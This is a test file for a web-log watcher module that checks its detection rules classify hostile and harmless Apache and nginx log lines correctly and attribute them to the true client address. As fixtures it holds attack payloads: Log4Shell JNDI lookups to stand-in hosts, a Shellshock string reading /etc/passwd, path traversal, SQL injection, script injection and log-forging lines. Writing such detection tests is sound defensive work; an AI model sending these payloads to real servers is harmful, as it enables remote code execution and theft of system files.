// WatchWB's rules, instance view and peer: hostile and harmless lines through the shipped rules
// with an instance register, as the module reads them (rules/Test's outcome).
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { readRuleSet, type RuleSet } from '../../../master/lib/rules/ruleset.js';
import { outcomeOf } from '../../../master/lib/rules/samples.js';
import { runCheckAllRules } from '../../../master/lib/rules/tools.js';
import { openWebView } from '../../../master/lib/web/view.js';
import type { LineView } from '../../../master/lib/rules/view.js';

const RULES = join(__dirname, '../../../modules/WatchWB/rules');
const dir = mkdtempSync(join(tmpdir(), 'watcher-wb-'));
writeFileSync(join(dir, 'instances'), [
  '# test register',
  'blog.example.org:443   wordpress',
  'static.example.org:80  static',
  'cms.example.org:443    joomla',
  'cloud.example.org:443  nextcloud',
  'shop.example.org:443   generic   trusted=10.0.0.0/8,2001:db8:cafe::/48',
  '',
].join('\n'));
const logged: string[] = [];
const view: LineView = openWebView({ dir, rules: RULES, log: (m) => logged.push(m) });
const set: RuleSet = readRuleSet(RULES, 'normal').set!;
const strict: RuleSet = readRuleSet(RULES, 'strict').set!;
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** An access line as WBinstance's LogFormat writes it. */
function access(o: { peer: string; req: string; status: number; inst: string; type: string; ua?: string; ref?: string; xff?: string; user?: string; tag?: string }): string {
  return `Dec  2 20:00:00 web ${o.tag ?? 'httpd'}: ${o.peer} - ${o.user ?? '-'} "${o.req}" ${o.status} 512 "${o.ref ?? '-'}" "${o.ua ?? 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'}" "${o.xff ?? '-'}" [Instance: ${o.inst}]@${o.type}`;
}
const verdict = (line: string, s = set): string => {
  const o = outcomeOf(s, line, undefined, view);
  return o.verdict === 'match' ? `${o.action === 'return' ? 'normal' : o.rule} ${o.address ?? '-'} ${o.instance}` : `${o.verdict} ${o.instance}`;
};

describe('WatchWB rules', () => {
  it('ships rule files whose every sample gives what it is annotated with, for every type', () => {
    const out: string[] = [];
    expect(runCheckAllRules(RULES, (s) => out.push(s)), out.join('')).toBe(0);
    expect(out.join('')).toMatch(/and the types joomla, nextcloud, static, wordpress, \d+ samples, all samples as annotated/);
  });

  it('reads WordPress paths as traffic on a WordPress instance and as a probe elsewhere', () => {
    const wp = (inst: string, type: string, req: string, status: number) => verdict(access({ peer: '203.0.113.5', req, status, inst, type }));
    expect(wp('blog.example.org:443', 'wordpress', 'GET /wp-login.php HTTP/1.1', 200)).toBe('normal - blog.example.org:443@wordpress');
    expect(wp('blog.example.org:443', 'wordpress', 'GET /wp-content/themes/x/style.css HTTP/1.1', 404)).toBe('normal - blog.example.org:443@wordpress');
    expect(wp('blog.example.org:443', 'wordpress', 'POST /wp-login.php HTTP/1.1', 302)).toBe('normal - blog.example.org:443@wordpress');
    expect(wp('blog.example.org:443', 'wordpress', 'POST /wp-login.php HTTP/1.1', 200)).toBe('wp-login 203.0.113.5 blog.example.org:443@wordpress');
    expect(wp('blog.example.org:443', 'wordpress', 'POST /xmlrpc.php HTTP/1.1', 200)).toBe('wp-xmlrpc 203.0.113.5 blog.example.org:443@wordpress');
    expect(wp('static.example.org:80', 'static', 'GET /wp-login.php HTTP/1.1', 404)).toBe('cms-probe 203.0.113.5 static.example.org:80@static');
    expect(wp('cms.example.org:443', 'joomla', 'GET /wp-admin/ HTTP/1.1', 404)).toBe('cms-probe 203.0.113.5 cms.example.org:443@joomla');
    expect(wp('cms.example.org:443', 'joomla', 'GET /administrator/ HTTP/1.1', 200)).toBe('normal - cms.example.org:443@joomla');
    expect(wp('blog.example.org:443', 'wordpress', 'GET /administrator/index.php HTTP/1.1', 404)).toBe('cms-probe 203.0.113.5 blog.example.org:443@wordpress');
    expect(wp('static.example.org:80', 'static', 'GET /about.php HTTP/1.1', 200)).toBe('static-script 203.0.113.5 static.example.org:80@static');
  });

  it('takes the type from the register, not from the line; an instance missing there is generic, said once', () => {
    const line = access({ peer: '203.0.113.6', req: 'GET /wp-login.php HTTP/1.1', status: 404, inst: 'new.example.org:8080', type: 'wordpress' });
    expect(verdict(line)).toBe('cms-probe 203.0.113.6 new.example.org:8080@generic');
    expect(verdict(line)).toBe('cms-probe 203.0.113.6 new.example.org:8080@generic');
    expect(logged.filter((m) => m.includes('new.example.org:8080'))).toEqual([`instance new.example.org:8080 (@wordpress) is not in the register ${join(dir, 'instances')}: counted as generic (WBinstance add new.example.org:8080 TYPE)`]);
    // The admin pasted @wordpress on a static instance: the register wins.
    expect(verdict(access({ peer: '203.0.113.7', req: 'GET /wp-login.php HTTP/1.1', status: 404, inst: 'static.example.org:80', type: 'wordpress' }))).toBe('cms-probe 203.0.113.7 static.example.org:80@static');
  });

  it('never lets a harmless visitor count', () => {
    const harmless: [string, number, Partial<Parameters<typeof access>[0]>?][] = [
      ['GET / HTTP/1.1', 200], ['GET /index.html HTTP/2.0', 200], ['GET /favicon.ico HTTP/1.1', 404],
      ['GET /robots.txt HTTP/1.1', 404], ['GET /apple-touch-icon.png HTTP/1.1', 404], ['HEAD / HTTP/1.1', 200],
      ['GET /private/ HTTP/1.1', 401], ['GET /images/logo.png HTTP/1.1', 304], ['GET /search?q=union+station HTTP/1.1', 200],
      ['GET /docs/select-a-plan.html HTTP/1.1', 200], ['GET /downloads/backup-guide.pdf HTTP/1.1', 200], ['GET /release.tar.gz HTTP/1.1', 200],
      ['GET / HTTP/1.1', 200, { ref: 'https://www.example.net/wp-login.php?redirect_to=%2Fwp-admin%2F&q=union+select' }], ['GET / HTTP/1.1', 200, { ua: 'curl/7.88.1' }],
      ['GET / HTTP/1.1', 200, { ua: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }],
      ['-', 408], ['GET /.well-known/acme-challenge/abc HTTP/1.1', 200],
      ['GET /download/PowerShell-7.4.msi HTTP/1.1', 200], ['GET /wiki/cmd.exe HTTP/1.1', 200], ['GET /search?q=cat+pictures HTTP/1.1', 200],
      ['GET /products?sort=price;asc HTTP/1.1', 200], ['GET /blog/how-to-drop-tables-in-sql HTTP/1.1', 200], ['GET /docs/bin/sh.html HTTP/1.1', 200],
    ];
    for (const [req, status, extra] of harmless) {
      for (const inst of [['www.example.org:80', 'generic'], ['static.example.org:80', 'static'], ['blog.example.org:443', 'wordpress']]) {
        const line = access({ peer: '198.51.100.9', req, status, inst: inst[0], type: inst[1], ...extra });
        expect(verdict(line, strict), line).toMatch(/^normal - /);
      }
    }
  });

  it('names the server\'s first word as the peer, never an address a client wrote', () => {
    const hostile = [
      access({ peer: '203.0.113.8', req: 'GET /.env?from=198.51.100.1 HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic' }),
      access({ peer: '203.0.113.8', req: 'GET /.env HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', ua: '198.51.100.1 - - \\"GET /.env HTTP/1.1\\" 404 1 \\"-\\" \\"x\\"', ref: '198.51.100.2' }),
      access({ peer: '203.0.113.8', req: 'GET /.env HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', user: '198.51.100.3 - -' }),
      access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', ua: '${jndi:ldap://198.51.100.4:1389/x}' }),
      access({ peer: '203.0.113.8', req: 'GET /.env HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', xff: '198.51.100.5' }),
      // Payloads of the attack classes, each with an address, a forged tag or a forged line in client text.
      access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', user: '${jndi:ldap://198.51.100.6/a}' }),
      access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', ua: '${${upper:j}ndi:ldap://198.51.100.6/a} [Instance: blog.example.org:443]@wordpress' }),
      access({ peer: '203.0.113.8', req: 'POST /?class.module.classLoader.x=198.51.100.7%20[Instance:%20blog.example.org:443]@wordpress HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic' }),
      access({ peer: '203.0.113.8', req: 'GET /wso.php HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', ref: '198.51.100.9 - - \\"GET /.env HTTP/1.1\\" 404 1 \\"-\\" \\"x\\" \\"-\\" [Instance: static.example.org:80]@static' }),
      access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', tag: 'nginx', ref: '\\x22 198.51.100.8 - - \\x22GET', ua: 'Hello, World' }),
      access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', ref: 'x\\" \\"Dec  2 20:00:00 web httpd: 198.51.100.10 - -', ua: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
      access({ peer: '203.0.113.8', req: "GET /item?id=1'%20OR%20'198.51.100.11'='198.51.100.11 HTTP/1.1", status: 200, inst: 'www.example.org:80', type: 'generic', xff: '198.51.100.11' }),
      access({ peer: '203.0.113.8', req: 'SSH-2.0-198.51.100.12', status: 400, inst: 'www.example.org:80', type: 'generic' }),
      access({ peer: '203.0.113.8', req: 'GET /mgmt/tm/util/bash?198.51.100.13 HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', user: '198.51.100.13' }),
    ];
    for (const line of hostile) expect(verdict(line), line).toMatch(/^[a-z0-9-]+ 203\.0\.113\.8 www\.example\.org:80@generic$/);
  });

  it('reads the client behind a trusted proxy from X-Forwarded-For, and never counts the proxy', () => {
    const shop = (peer: string, xff: string) => verdict(access({ peer, req: 'GET /.git/config HTTP/1.1', status: 404, inst: 'shop.example.org:443', type: 'generic', xff }));
    expect(shop('10.1.2.3', '203.0.113.9')).toBe('secret-files 203.0.113.9 shop.example.org:443@generic');
    // A client's own X-Forwarded-For comes first; the proxy appends the address it saw.
    expect(shop('10.1.2.3', '198.51.100.66, 203.0.113.10')).toBe('secret-files 203.0.113.10 shop.example.org:443@generic');
    expect(shop('10.1.2.3', '203.0.113.11, 10.9.9.9')).toBe('secret-files 203.0.113.11 shop.example.org:443@generic');
    expect(shop('2001:db8:cafe::1', '[2001:db8::12]:4711')).toBe('secret-files 2001:db8::12 shop.example.org:443@generic');
    // No header, a garbled one, or only proxies: nobody is counted (least of all the proxy).
    expect(shop('10.1.2.3', '-')).toBe('secret-files - shop.example.org:443@generic');
    expect(shop('10.1.2.3', '')).toBe('secret-files - shop.example.org:443@generic');
    expect(shop('10.1.2.3', '203.0.113.13, unknown')).toBe('secret-files - shop.example.org:443@generic');
    expect(shop('10.1.2.3', '10.0.0.5')).toBe('secret-files - shop.example.org:443@generic');
    // A client that is not a trusted proxy: its X-Forwarded-For is its own text.
    expect(shop('203.0.113.14', '198.51.100.7')).toBe('secret-files 203.0.113.14 shop.example.org:443@generic');
    // The same header on an instance without trusted proxies is ignored too.
    expect(verdict(access({ peer: '10.1.2.3', req: 'GET /.git/config HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', xff: '203.0.113.15' }))).toBe('secret-files 10.1.2.3 www.example.org:80@generic');
  });

  it('takes the tag a line ends with: a tag a client writes before it changes nothing', () => {
    const line = access({ peer: '203.0.113.16', req: 'GET /index.php HTTP/1.1', status: 404, inst: 'static.example.org:80', type: 'static', ua: 'x [Instance: blog.example.org:443]@wordpress' });
    expect(verdict(line)).toBe('static-script 203.0.113.16 static.example.org:80@static');
    // A line cut before its tag (an over-long request): the common rules, no instance; the peer is still the first word.
    const cut = 'Dec  2 20:00:00 web httpd: 203.0.113.17 - - "GET /.env?' + 'A'.repeat(900);
    expect(verdict(cut)).toBe('secret-files 203.0.113.17 -@generic');
  });

  it('counts hostile requests by what they carry', () => {
    const g = (req: string, status: number, extra: Partial<Parameters<typeof access>[0]> = {}) => verdict(access({ peer: '203.0.113.18', req, status, inst: 'www.example.org:80', type: 'generic', ...extra })).split(' ')[0];
    expect(g('GET /?x=${jndi:ldap://x/a} HTTP/1.1', 200)).toBe('log4j');
    expect(g('GET / HTTP/1.1', 200, { ua: '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}' })).toBe('log4j');
    expect(g('GET /cgi-bin/test.cgi HTTP/1.1', 404, { ua: '() { :; }; echo; /bin/cat /etc/passwd' })).toBe('shellshock');
    expect(g('GET /../../../../etc/passwd HTTP/1.1', 400)).toBe('traversal');
    expect(g('GET /page?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1', 200)).toBe('sql-injection');
    expect(g('GET /?q=<script>alert(1)</script> HTTP/1.1', 200)).toBe('script-injection');
    expect(g('CONNECT 198.51.100.1:25 HTTP/1.1', 400)).toBe('proxy-connect');
    expect(g('GET http://198.51.100.1/ HTTP/1.1', 200)).toBe('proxy-absolute');
    expect(g('GET /phpmyadmin/ HTTP/1.1', 404)).toBe('admin-probe');
    expect(g('GET /server-status HTTP/1.1', 403)).toBe('server-status');
    expect(g('GET / HTTP/1.1', 200, { ua: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' })).toBe('scanner-agent');
    expect(g('GET /admin/ HTTP/1.1', 401, { user: 'admin' })).toBe('basic-auth');
    expect(g('\\x16\\x03\\x01\\x00\\xfc\\x01', 400)).toBe('tls-on-http');
    expect(g('GET / HTTP/9.1', 400)).toBe('bad-version');
    expect(g('GET / HTTP/1.3', 200)).toBe('bad-version');
  });

  it('reads apache\'s and nginx\'s error lines: the instance, the peer, nothing from the client\'s text', () => {
    const ap = 'Dec  2 20:00:00 web httpd: [authz_core:error] [pid 812] [client 203.0.113.19:40000] AH01630: client denied by server configuration: /var/www/admin/[client 198.51.100.1:1] [Instance: blog.example.org:443]@wordpress';
    expect(verdict(ap)).toBe('client-denied 203.0.113.19 blog.example.org:443@wordpress');
    const ng = 'Dec  2 20:00:00 web nginx: 2026/12/02 20:00:00 [error] 812#812: *11 limiting requests, excess: 10.520 by zone "one", client: 203.0.113.20, server: cloud.example.org, request: "GET / HTTP/1.1", host: "cloud.example.org"';
    expect(verdict(ng)).toBe('limit-req 203.0.113.20 cloud.example.org:443@nextcloud');
    // IPv6: apache 2.4 writes [ADDR]:PORT, 2.2 the address alone; nginx writes no port. An
    // unbracketed address before a port reads two ways: counted for no one.
    expect(verdict(ap.replace('203.0.113.19:40000', '[2001:db8::19]:4711'))).toBe('client-denied 2001:db8::19 blog.example.org:443@wordpress');
    expect(verdict(ap.replace('[pid 812] [client 203.0.113.19:40000]', '[client 2001:db8::19]'))).toBe('client-denied 2001:db8::19 blog.example.org:443@wordpress');
    expect(outcomeOf(set, ap.replace('203.0.113.19:40000', '2001:db8::19:4711'), undefined, view)).toMatchObject({ rule: 'client-denied', address: null, ambiguous: ['2001:db8::19:4711', '2001:db8::19'] });
    expect(verdict(ng.replace('203.0.113.20', '2001:db8::20'))).toBe('limit-req 2001:db8::20 cloud.example.org:443@nextcloud');
    // apache 2.2's error lines: a user name or path that spells a client field names nobody else.
    expect(verdict('Dec  2 20:00:00 web httpd: [Sun Jun 09 07:57:47 2013] [error] [client 203.0.113.30] user [client 198.51.100.1] not found: /')).toBe('auth-error 203.0.113.30 -@generic');
    expect(verdict('Dec  2 20:00:00 web httpd: [Sun Jun 09 07:57:47 2013] [error] [client 203.0.113.31] File does not exist: /var/www/phpmyadmin/[client 198.51.100.1] x')).toBe('probe-not-found 203.0.113.31 -@generic');
    expect(verdict('Dec  2 20:00:00 web httpd: [core:info] [pid 812] [client 203.0.113.32:4711] AH00128: File does not exist: /var/www/wp-login.php/[client 198.51.100.1:1] x [Instance: static.example.org:80]@static')).toBe('probe-not-found 203.0.113.32 static.example.org:80@static');
    // A request that spells nginx's tail makes the FastCGI line ambiguous too: nobody is counted.
    expect(verdict('Dec  2 20:00:00 web nginx: 2026/12/02 20:00:00 [error] 812#812: *13 FastCGI sent in stderr: "Primary script unknown" while reading response header from upstream, client: 203.0.113.22, server: www.example.org, request: "GET /x.php?a, client: 198.51.100.1, server: www.example.org, request: "x HTTP/1.1", host: "www.example.org"')).toBe('script-not-found - www.example.org@generic');
    // A request line that spells nginx's own tail: both addresses fit, neither is counted.
    const forged = 'Dec  2 20:00:00 web nginx: 2026/12/02 20:00:00 [error] 812#812: *12 access forbidden by rule, client: 203.0.113.21, server: www.example.org, request: "GET /a, client: 198.51.100.1, server: www.example.org, request: "x HTTP/1.1", host: "www.example.org"';
    expect(verdict(forged)).toBe('client-denied - www.example.org@generic');
  });
});
